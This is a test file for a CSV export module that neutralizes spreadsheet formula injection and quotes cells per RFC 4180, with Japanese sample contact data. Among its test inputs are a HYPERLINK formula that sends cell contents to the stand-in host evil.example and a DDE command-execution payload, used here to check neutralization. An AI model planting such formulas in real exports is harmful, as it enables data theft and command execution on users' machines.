import { describe, expect, it } from 'vitest';
import { neutralizeCell, quoteCell, toCsv } from '../../../../shared/handoff/csv-write';

describe('neutralizeCell', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"詳細")', `'=HYPERLINK("http://evil.example/?"&A1,"詳細")`],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['+81-3-1234-5678', "'+81-3-1234-5678"],
    ['-123', "'-123"],
    ['=1+1', "'=1+1"],
    ['  =cmd|\' /C calc\'!A0', "'  =cmd|' /C calc'!A0"],
    ['\u3000＝は全角なので数式ではない', '\u3000＝は全角なので数式ではない'],
    ['\u3000=全角スペースの後', "'\u3000=全角スペースの後"],
    ['\tTAB', "'\tTAB"],
    ['\rCR', "'\rCR"],
    ['\n=after a newline', "'\n=after a newline"],
  ])('neutralizes %j', (cell, expected) => {
    expect(neutralizeCell(cell)).toBe(expected);
  });

  it.each([
    '山田 太郎',
    '株式会社サンプル',
    '03-1234-5678',
    'taro@example.jp',
    'a=b',
    'メール: x@example.jp',
    '',
  ])('leaves %j alone', (cell) => {
    expect(neutralizeCell(cell)).toBe(cell);
  });
});

describe('quoteCell', () => {
  it.each([
    ['plain', 'plain'],
    ['株式会社サンプル, 東京支社', '"株式会社サンプル, 東京支社"'],
    ['彼は"至急"と言った', '"彼は""至急""と言った"'],
    ['一行目\n二行目', '"一行目\n二行目"'],
    ['CR\r', '"CR\r"'],
  ])('quotes %j as RFC 4180 says', (cell, expected) => {
    expect(quoteCell(cell)).toBe(expected);
  });
});

describe('toCsv', () => {
  it('ends every record with CRLF and writes blanks for null', () => {
    expect(toCsv([['a', 'b'], [null, undefined], [1, true]])).toBe('a,b\r\n,\r\n1,true\r\n');
  });

  it('neutralizes before quoting, so a formula with a comma stays one quoted cell', () => {
    expect(toCsv([['=HYPERLINK("x","y")', '=1,2']])).toBe(`"'=HYPERLINK(""x"",""y"")","'=1,2"\r\n`);
  });

  it('keeps a note with newlines, commas and quotes in one cell', () => {
    const note = '展示会で名刺交換。\n「来月、見積り」,要フォロー\n"Hot"';
    expect(toCsv([[note]])).toBe(`"展示会で名刺交換。\n「来月、見積り」,要フォロー\n""Hot"""\r\n`);
  });
});
